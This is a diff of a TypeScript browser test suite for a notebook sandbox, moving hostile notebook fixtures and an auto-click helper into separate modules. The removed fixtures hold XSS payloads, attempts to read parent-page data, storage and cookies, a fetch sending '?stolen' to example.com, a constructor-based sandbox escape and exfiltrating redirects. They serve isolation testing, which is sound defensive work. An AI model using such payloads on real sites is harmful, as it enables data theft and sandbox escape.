@@ -3,76 +3,11 @@ import type { Browser, Locator } from 'playwright-core';
 import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
 import { seriousViolations } from './harness/axe.ts';
 import { launch } from './harness/browser.ts';
+import { ASKING, HOSTILE, LEAVING } from './harness/hostile/brought-notebooks.ts';
 import { serveLab, type ServedLab } from './harness/lab.ts';
-import { NotebookReader } from './harness/notebook.ts';
+import { clickAllowEarly, NotebookReader } from './harness/notebook.ts';
 import { takeSlow } from './harness/slow.ts';
 import { visit, type Visit } from './harness/visit.ts';
-
-/** The attempts of a hostile notebook; each line of its output is the outcome of one. */
-const HOSTILE = `<!doctype html>
-<img src="x" onerror="window.hostile = 'in the page'">
-<script>window.hostile = 'in the page'</script>
-<notebook theme="air">
-  <title>&lt;img src=x onerror="window.hostile = 'title'"&gt;</title>
-  <script id="1" type="text/html">
-    <img src="data:," onerror="document.body.dataset.html = 'ran'"><svg onload="window.hostile = 1"></svg>
-  </script>
-  <script id="2" type="module">
-    const late = () => new Promise((_, fail) => setTimeout(fail, 3000));
-    const attempt = async (name, run) => {
-      try {
-        return name + ': ' + (await Promise.race([run(), late()]));
-      } catch {
-        return name + ': stopped';
-      }
-    };
-    const attempts = await Promise.all([
-      attempt('page', () => { window.parent.parent.hostile = 1; return 'reached'; }),
-      attempt('document', () => window.parent.document.title),
-      attempt('storage', () => window.localStorage.length),
-      attempt('database', () => window.indexedDB.databases().then(() => 'reached')),
-      attempt('cookies', () => document.cookie + 'reached'),
-      attempt('network', () => fetch('https://example.com/?stolen').then(() => 'reached')),
-      attempt('own host', () => fetch('./models/').then(() => 'reached')),
-      attempt('image', () => new Promise((done, fail) => {
-        const i = new Image();
-        i.onload = () => done('reached');
-        i.onerror = fail;
-        i.src = 'https://example.com/a.png';
-      })),
-      attempt('worker', () => new Promise((done, fail) => {
-        const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
-        w.onmessage = () => done('reached');
-        w.onerror = fail;
-      })),
-      attempt('window', () => (window.open('https://example.com/') ? 'reached' : Promise.reject())),
-      attempt('keys', () => lab.keys()),
-      attempt('prototype', () => lab.constructor.constructor('return parent.document.title')())
-    ]);
-    for (const line of attempts) display(html\`<p>\${line}\`);
-  </script>
-  <script id="3" type="module">
-    window.top.location = 'https://example.com/?moved';
-  </script>
-</notebook>`;
-
-const ASKING = `<!doctype html>
-<notebook theme="air">
-  <title>Asking</title>
-  <script id="1" type="module">
-    const told = await lab.conversations();
-    display(html\`<p>\${told.length} conversations, first message: \${told[0]?.messages[0]?.text}\`);
-  </script>
-</notebook>`;
-
-/** Tries to leak data in its own address. */
-const LEAVING = `<!doctype html>
-<notebook theme="air">
-  <title>Leaving</title>
-  <script id="1" type="module">
-    window.location.href = 'https://example.com/?carried=away';
-  </script>
-</notebook>`;
 
 /** Two busy cores are slow to show typed text. */
 const PATIENT = { timeout: 30_000 };
@@ -288,18 +223,7 @@ describe('notebooks', () => {
 
     await guest.page.reload();
     // A click at the moment the dialog opens was meant for something else.
-    await guest.page.evaluate(() => {
-      const early = new MutationObserver(() => {
-        const allow = [...document.querySelectorAll<HTMLButtonElement>('dialog button')].find(
-          (button) => button.textContent === 'Allow',
-        );
-        if (!allow) return;
-        early.disconnect();
-        allow.click();
-        document.body.dataset['early'] = 'clicked';
-      });
-      early.observe(document.body, { subtree: true, childList: true });
-    });
+    await clickAllowEarly(guest.page);
     await run.click();
     await guest.page.locator('body[data-early]').waitFor({ state: 'attached' });
     await dialog.getByRole('button', { name: 'Allow', exact: true }).click();
